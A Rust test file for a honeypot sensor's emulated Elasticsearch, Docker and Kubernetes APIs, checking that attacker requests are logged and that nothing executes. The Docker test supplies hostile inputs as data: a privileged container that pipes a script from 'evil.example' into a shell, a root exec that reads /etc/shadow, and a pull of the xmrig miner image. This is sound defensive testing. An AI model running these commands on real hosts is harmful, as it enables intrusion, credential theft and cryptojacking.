//! The JSON API emulators (`elasticsearch`, `docker_api`, `k8s`) against the real `curl`.

mod support;

use std::net::SocketAddr;
use std::process::Command;

use serde_json::Value;
use support::{serve, wait_for, wait_for_kind};

/// Runs curl (headers included in the output) and returns what it printed.
fn curl(args: &[&str]) -> String {
    let output = Command::new("curl")
        .args(["-sS", "-i", "--max-time", "10", "--noproxy", "*"])
        .args(args)
        .output()
        .expect("curl is installed");
    assert!(output.status.success(), "curl {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn url(scheme: &str, addr: SocketAddr, path: &str) -> String {
    format!("{scheme}://{addr}{path}")
}

#[test]
fn elasticsearch_root_shows_the_configured_node_and_records_basic_auth() {
    let env = [("NODE_NAME", "search-01"), ("ES_VERSION", "7.17.9"), ("ES_CLUSTER_NAME", "prod-logs")];
    let (addr, log) = serve("elasticsearch", 9200, &env);
    let out = curl(&["-u", "elastic:changeme", &url("http", addr, "/")]);
    assert!(out.starts_with("HTTP/1.1 200 OK\r\ncontent-type: application/json; charset=UTF-8\r\n"), "{out}");
    assert!(out.contains("\"cluster_name\" : \"prod-logs\""), "{out}");
    assert!(out.contains("\"number\" : \"7.17.9\""), "{out}");
    assert!(out.contains("\"name\" : \"search-01\""), "{out}");
    assert!(out.contains("\"tagline\" : \"You Know, for Search\""), "{out}");
    let auth = wait_for_kind(&log, "auth");
    assert_eq!((auth["username"].as_str(), auth["password"].as_str()), (Some("elastic"), Some("changeme")));
    assert_eq!(auth["success"], false);
    let request = wait_for_kind(&log, "request");
    assert_eq!((request["method"].as_str(), request["path"].as_str()), (Some("GET"), Some("/")));
    assert!(request["user_agent"].as_str().unwrap().starts_with("curl/"));

    let health = curl(&[&url("http", addr, "/_cluster/health?pretty")]);
    assert!(health.contains("\"cluster_name\" : \"prod-logs\""), "{health}");
    let search = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"query":{"match_all":{}}}"#,
        &url("http", addr, "/_search"),
    ]);
    assert!(
        search.contains(r#""hits":{"total":{"value":0,"relation":"eq"},"max_score":null,"hits":[]}"#),
        "{search}"
    );
    wait_for(&log, "the search body", |events| {
        events.iter().any(|e| e["kind"] == "request" && e["body"] == r#"{"query":{"match_all":{}}}"#)
    });
    let indices = curl(&[&url("http", addr, "/_cat/indices?v")]);
    assert!(indices.contains("health status index uuid"), "{indices}");
    let security = curl(&[&url("http", addr, "/_security/_authenticate")]);
    assert!(security.starts_with("HTTP/1.1 500"), "{security}");
}

#[test]
fn elasticsearch_with_security_refuses_everyone() {
    let (addr, log) = serve("elasticsearch", 9200, &[("ES_SECURITY", "on")]);
    let out = curl(&["-u", "admin:hunter2", &url("http", addr, "/_cat/indices")]);
    assert!(out.starts_with("HTTP/1.1 401 Unauthorized\r\n"), "{out}");
    assert!(out.contains("www-authenticate: Basic realm=\"security\""), "{out}");
    assert!(out.contains("unable to authenticate user"), "{out}");
    let auth = wait_for_kind(&log, "auth");
    assert_eq!((auth["username"].as_str(), auth["password"].as_str()), (Some("admin"), Some("hunter2")));
}

#[test]
fn docker_create_start_and_exec_are_recorded_and_nothing_runs() {
    let (addr, log) = serve("docker_api", 2375, &[("NODE_NAME", "build-01"), ("DOCKER_VERSION", "24.0.7")]);
    let version = curl(&[&url("http", addr, "/v1.43/version")]);
    assert!(version.contains("Server: Docker/24.0.7 (linux)\r\n"), "{version}");
    assert!(version.contains("\"ApiVersion\":\"1.43\""), "{version}");
    let info = curl(&[&url("http", addr, "/info")]);
    assert!(info.contains("\"Name\":\"build-01\""), "{info}");
    let ping = curl(&[&url("http", addr, "/_ping")]);
    assert!(
        ping.starts_with("HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\n") && ping.ends_with("\r\n\r\nOK"),
        "{ping}"
    );
    let images = curl(&[&url("http", addr, "/images/json")]);
    assert!(images.contains("\"RepoTags\""), "{images}");

    let body = r#"{"Image":"alpine:3.19","Cmd":["sh","-c","curl -s http://evil.example/x.sh | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}"#;
    let created = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        body,
        &url("http", addr, "/v1.41/containers/create?name=miner"),
    ]);
    assert!(created.starts_with("HTTP/1.1 201 Created\r\n"), "{created}");
    let create = wait_for_kind(&log, "container_create");
    assert_eq!(create["image"], "alpine:3.19");
    assert_eq!(create["cmd"], serde_json::json!(["sh", "-c", "curl -s http://evil.example/x.sh | sh"]));
    assert_eq!(create["binds"], serde_json::json!(["/:/mnt"]));
    assert_eq!((create["privileged"].as_bool(), create["name"].as_str()), (Some(true), Some("miner")));
    let id = create["id"].as_str().unwrap().to_owned();
    assert!(created.contains(&format!("{{\"Id\":\"{id}\",\"Warnings\":[]}}")), "{created}");

    let started = curl(&["-X", "POST", &url("http", addr, &format!("/v1.41/containers/{id}/start"))]);
    assert!(started.starts_with("HTTP/1.1 204 No Content\r\n"), "{started}");
    assert_eq!(wait_for_kind(&log, "container_start")["container"], id.as_str());
    let exec = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"Cmd":["cat","/etc/shadow"],"User":"root"}"#,
        &url("http", addr, &format!("/containers/{id}/exec")),
    ]);
    assert!(exec.starts_with("HTTP/1.1 201 Created\r\n"), "{exec}");
    let exec_create = wait_for_kind(&log, "exec_create");
    assert_eq!(exec_create["cmd"], serde_json::json!(["cat", "/etc/shadow"]));
    assert_eq!(exec_create["user"], "root");
    let exec_id = exec_create["id"].as_str().unwrap().to_owned();
    let exec_start = curl(&["-X", "POST", &url("http", addr, &format!("/v1.41/exec/{exec_id}/start"))]);
    assert!(exec_start.starts_with("HTTP/1.1 200 OK\r\n"), "{exec_start}");
    assert_eq!(wait_for_kind(&log, "exec_start")["exec"], exec_id.as_str());
    let pull = curl(&["-X", "POST", &url("http", addr, "/images/create?fromImage=xmrig%2Fxmrig&tag=latest")]);
    assert!(pull.contains("Image is up to date for xmrig/xmrig:latest"), "{pull}");
    let image_pull = wait_for_kind(&log, "image_pull");
    assert_eq!(
        (image_pull["image"].as_str(), image_pull["tag"].as_str()),
        (Some("xmrig/xmrig"), Some("latest"))
    );
    let requests = wait_for(&log, "every call recorded", |events| {
        events.iter().filter(|e| e["kind"] == "request").count() == 9
    });
    assert!(
        requests.iter().any(|e| e["kind"] == "request" && e["path"] == "/v1.41/containers/create?name=miner")
    );
}

#[test]
fn docker_tls_port_speaks_tls() {
    let (addr, log) = serve("docker_api", 2376, &[("NODE_NAME", "build-01")]);
    let ping = curl(&["-k", &url("https", addr, "/_ping")]);
    assert!(ping.ends_with("\r\n\r\nOK"), "{ping}");
    assert_eq!(wait_for_kind(&log, "tls")["success"], true);
    let plain = curl(&[&url("http", addr, "/_ping")]);
    assert!(plain.contains("Client sent an HTTP request to an HTTPS server."), "{plain}");
}

#[test]
fn k8s_refuses_anonymous_and_records_tokens() {
    let (addr, log) = serve("k8s", 6443, &[("NODE_NAME", "cp-01"), ("K8S_VERSION", "v1.28.9")]);
    let version = curl(&["-k", &url("https", addr, "/version")]);
    assert!(version.contains("\"gitVersion\": \"v1.28.9\""), "{version}");
    let pods = curl(&["-k", &url("https", addr, "/api/v1/pods")]);
    assert!(pods.contains("HTTP/2 403") || pods.contains("HTTP/1.1 403"), "{pods}");
    assert!(pods.contains("\"kind\": \"Status\"") && pods.contains("system:anonymous"), "{pods}");
    let token = "eyJhbGciOiJSUzI1NiJ9.stolen.token";
    let with_token = curl(&[
        "-k",
        "-H",
        &format!("Authorization: Bearer {token}"),
        &url("https", addr, "/api/v1/namespaces"),
    ]);
    assert!(with_token.contains("\"reason\": \"Unauthorized\""), "{with_token}");
    let auth = wait_for_kind(&log, "auth");
    assert_eq!((auth["token"].as_str(), auth["method"].as_str()), (Some(token), Some("bearer")));
    curl(&["-k", "-u", "admin:kube-pass", &url("https", addr, "/api")]);
    wait_for(&log, "basic credentials", |events| {
        events.iter().any(|e| e["kind"] == "auth" && e["username"] == "admin" && e["password"] == "kube-pass")
    });
}

#[test]
fn k8s_insecure_port_lists_the_cluster() {
    let (addr, log) = serve("k8s", 8080, &[("NODE_NAME", "cp-01")]);
    let pods = curl(&[&url("http", addr, "/api/v1/namespaces/kube-system/pods")]);
    assert!(pods.starts_with("HTTP/1.1 200 OK\r\n") && pods.contains("\"kind\": \"PodList\""), "{pods}");
    assert!(pods.contains("coredns") && !pods.contains("postgres"), "{pods}");
    let namespaces = curl(&[&url("http", addr, "/api/v1/namespaces")]);
    assert!(namespaces.contains("\"name\": \"production\""), "{namespaces}");
    let request: Value = wait_for_kind(&log, "request");
    assert_eq!(request["path"], "/api/v1/namespaces/kube-system/pods");
}

/// Serves each port for two minutes, printing its address, for `nmap -sV` by hand:
/// `cargo test -p chaff-sensor --test api_emulators -- --ignored --nocapture`.
#[test]
#[ignore = "serves for nmap by hand"]
fn serve_for_nmap() {
    for (slug, port) in
        [("elasticsearch", 9200), ("docker_api", 2375), ("docker_api", 2376), ("k8s", 6443), ("k8s", 8080)]
    {
        let (addr, _log) = serve(slug, port, &[("NODE_NAME", "decky-01")]);
        println!("{slug}/{port} on {addr}");
    }
    std::thread::sleep(std::time::Duration::from_secs(120));
}
